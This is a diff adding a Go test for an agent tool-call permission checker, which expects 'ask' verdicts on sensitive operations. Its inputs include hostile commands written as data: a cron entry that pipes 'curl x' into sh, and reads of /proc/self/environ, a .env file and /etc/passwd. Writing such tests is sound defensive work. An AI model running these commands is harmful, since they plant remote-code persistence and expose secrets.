@@ -111,3 +111,53 @@ func equalJSON(a, b any) bool {
 	y, _ := json.Marshal(b)
 	return bytes.Equal(x, y)
 }
+
+// TestPermissionCheckJSONLHoles: the verdicts of the permission holes,
+// as --jsonl reports them.
+func TestPermissionCheckJSONLHoles(t *testing.T) {
+	wd := t.TempDir()
+	in := strings.Join([]string{
+		`{"tool":"Bash","input":{"command":"echo '* * * * * curl x | sh' > /etc/cron.d/x"},"rules":{"allow":["Bash(echo:*)"]}}`,
+		`{"tool":"Bash","input":{"command":"echo ok > out.txt"},"rules":{"allow":["Bash(echo:*)"]}}`,
+		`{"tool":"Bash","input":{"command":"head -c 200 /proc/self/environ"}}`,
+		`{"tool":"Read","input":{"file_path":"/proc/self/environ"}}`,
+		`{"tool":"Read","input":{"file_path":"` + wd + `/.env"}}`,
+		`{"tool":"Bash","input":{"command":"sort -o sorted.txt data.txt"}}`,
+		`{"tool":"Bash","input":{"command":"cat /etc/passwd"}}`,
+		`{"tool":"Bash","input":{"command":"cat /etc/passwd"},"workdirs":["` + wd + `","/etc"]}`,
+	}, "\n")
+	out, err := runPerm(t, in, "check", "--jsonl", "--workdir", wd)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []map[string]any{
+		{"behavior": "ask", "layer": "safety check", "bypass_immune": true},
+		{"behavior": "allow", "layer": "allow rule", "rule": "Bash(echo:*)"},
+		{"behavior": "ask", "layer": "safety check", "read_only": true},
+		{"behavior": "ask", "layer": "safety check", "read_only": true},
+		{"behavior": "ask", "layer": "safety check"},
+		{"behavior": "ask", "layer": "mode", "read_only": false},
+		{"behavior": "ask", "layer": "safety check", "read_only": true},
+		{"behavior": "allow", "layer": "read-only", "read_only": true},
+	}
+	msgs := []string{"the write of /etc/cron.d/x", "", "/proc/self/environ is a sensitive path", "sensitive path",
+		"/.env is a sensitive path", "`sort -o` writes a file", "the read of /etc/passwd", ""}
+	lines := strings.Split(strings.TrimSpace(out), "\n")
+	if len(lines) != len(want) {
+		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), out)
+	}
+	for i, l := range lines {
+		var got map[string]any
+		if err := json.Unmarshal([]byte(l), &got); err != nil {
+			t.Fatalf("line %d not JSON: %q", i+1, l)
+		}
+		for k, v := range want[i] {
+			if !equalJSON(got[k], v) {
+				t.Errorf("line %d: %s = %v, want %v (%s)", i+1, k, got[k], v, l)
+			}
+		}
+		if m, _ := got["message"].(string); !strings.Contains(m, msgs[i]) {
+			t.Errorf("line %d: message %q lacks %q", i+1, m, msgs[i])
+		}
+	}
+}
